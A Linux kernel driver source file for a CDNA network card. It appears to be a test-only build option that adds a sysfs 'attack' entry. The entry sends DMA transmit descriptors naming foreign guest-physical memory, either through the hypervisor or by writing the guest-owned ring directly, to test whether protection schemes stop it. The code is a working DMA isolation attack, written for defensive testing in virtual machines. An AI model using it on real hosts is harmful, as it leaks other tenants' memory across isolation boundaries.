// SPDX-License-Identifier: MIT OR GPL-2.0-only
/*
 * The attack that the approaches to protection are there for: a frame to send whose second descriptor names memory that is
 * not ours. Built with CDNA_ATTACK=1 only, for tests in virtual machines; a driver that is used has no such file.
 *
 *   echo "0x8200000 64" > /sys/class/net/eth0/attack
 *
 * sends 64 bytes from the guest-physical address 0x8200000, whoever has that memory, behind a header of 64 bytes. The write
 * fails with EACCES when the hypervisor refuses the memory, and with EIO when it does not do the call for another reason; what
 * else becomes of it is said by the card.
 */
#include <linux/dma-mapping.h>
#include <linux/etherdevice.h>
#include <linux/rtnetlink.h>

#include "cdna.h"

#define HEADER_BYTES	64
/* IEEE 802: local experimental. */
#define ETHERTYPE	0x88b5

/* A station that no one has: its frames go out of the wire. */
static const u8 nobody[ETH_ALEN] = { 0x02, 0x00, 0x00, 0xff, 0xff, 0xff };

static struct sk_buff *attack_header(struct net_device *dev)
{
	struct sk_buff *skb = netdev_alloc_skb(dev, HEADER_BYTES);

	if (!skb)
		return NULL;
	skb_put_zero(skb, HEADER_BYTES);
	ether_addr_copy(skb->data, nobody);
	ether_addr_copy(skb->data + ETH_ALEN, dev->dev_addr);
	*(__be16 *)(skb->data + 2 * ETH_ALEN) = htons(ETHERTYPE);
	return skb;
}

/* The hypervisor is asked for both, as a driver would; it sees whose memory it is. */
static int attack_by_asking(struct cdna_nic *nic, const struct cdna_buffer *header, u64 foreign, u16 bytes)
{
	struct cdna_descriptor *requests = nic->requests;
	u32 result, refusal;

	requests[0].address = cpu_to_le64(nic->address + header->dma);
	requests[0].length = cpu_to_le16(HEADER_BYTES);
	requests[0].flags = 0;
	requests[1].address = cpu_to_le64(foreign);
	requests[1].length = cpu_to_le16(bytes);
	requests[1].flags = cpu_to_le16(CDNA_FLAG_END_OF_PACKET);
	result = cdna_call(nic, CDNA_DO_TRANSMIT, 2);
	if (result == CDNA_RESULT_DONE)
		return 2;
	if (result != CDNA_RESULT_REFUSED) {
		netdev_info(nic->dev, "attack: result %u\n", result);
		return -EIO;
	}
	refusal = readl(nic->calls + CDNA_CALL_REFUSAL);
	netdev_info(nic->dev, "attack: result %u, refusal %s\n", result,
		    refusal < ARRAY_SIZE(cdna_refusal_names) ? cdna_refusal_names[refusal] : "unknown");
	return -EACCES;
}

/* The ring is ours: whatever the hypervisor has mapped, we write the address that we want. */
static int attack_by_writing(struct cdna_nic *nic, const struct cdna_buffer *header, u64 foreign, u16 bytes)
{
	struct cdna_ring *ring = &nic->tx;
	u64 address = nic->address + header->dma;

	if (nic->hand_over == CDNA_HAND_OVER_MAP_THEN_WRITE) {
		nic->requests[0].address = cpu_to_le64(address);
		nic->requests[0].length = cpu_to_le16(HEADER_BYTES);
		nic->requests[0].flags = cpu_to_le16(CDNA_FLAG_END_OF_PACKET);
		if (cdna_call(nic, CDNA_DO_TRANSMIT, 1) != CDNA_RESULT_DONE)
			return -EIO;
		address = le64_to_cpu(READ_ONCE(nic->requests[0].address));
	}
	cdna_put_descriptor(ring, ring->producer, address, HEADER_BYTES, 0);
	cdna_put_descriptor(ring, ring->producer + 1, foreign, bytes, CDNA_FLAG_END_OF_PACKET);
	return 2;
}

/* Both descriptors, as the approach lets us; the header's buffer is given back when they are finished. */
static int attack_send(struct cdna_nic *nic, u64 foreign, u16 bytes)
{
	struct cdna_ring *ring = &nic->tx;
	struct cdna_buffer header = { .length = HEADER_BYTES };
	int taken;

	if (ring->mask - (ring->producer - ring->consumer) < 2)
		return -EBUSY;
	header.skb = attack_header(nic->dev);
	if (!header.skb)
		return -ENOMEM;
	header.dma = dma_map_single(&nic->pdev->dev, header.skb->data, HEADER_BYTES, DMA_TO_DEVICE);
	if (dma_mapping_error(&nic->pdev->dev, header.dma)) {
		dev_kfree_skb_any(header.skb);
		return -ENOMEM;
	}
	spin_lock_bh(&nic->call_lock);
	taken = ring->slots ? attack_by_writing(nic, &header, foreign, bytes) :
			      attack_by_asking(nic, &header, foreign, bytes);
	if (taken > 0) {
		ring->buffers[ring->producer & ring->mask] = header;
		ring->buffers[(ring->producer + 1) & ring->mask].skb = NULL;
		ring->producer += taken;
		netdev_sent_queue(nic->dev, HEADER_BYTES);
		cdna_doorbell(nic, ring);
	}
	spin_unlock_bh(&nic->call_lock);
	if (taken < 0) {
		dma_unmap_single(&nic->pdev->dev, header.dma, HEADER_BYTES, DMA_TO_DEVICE);
		dev_kfree_skb_any(header.skb);
	}
	return taken;
}

static ssize_t attack_store(struct device *device, struct device_attribute *attribute, const char *text, size_t count)
{
	struct net_device *dev = to_net_dev(device);
	struct cdna_nic *nic = netdev_priv(dev);
	unsigned long long address;
	unsigned int bytes;
	int outcome;

	if (sscanf(text, "%llx %u", &address, &bytes) != 2 || bytes < 1 || bytes > ETH_DATA_LEN)
		return -EINVAL;
	rtnl_lock();
	if (netif_running(dev)) {
		netif_tx_lock_bh(dev);
		outcome = attack_send(nic, nic->address + address, bytes);
		netif_tx_unlock_bh(dev);
	} else {
		outcome = -ENETDOWN;
	}
	rtnl_unlock();
	return outcome < 0 ? outcome : count;
}
static DEVICE_ATTR_WO(attack);

static struct attribute *attack_attributes[] = {
	&dev_attr_attack.attr,
	NULL,
};

const struct attribute_group cdna_attack_group = {
	.attrs = attack_attributes,
};
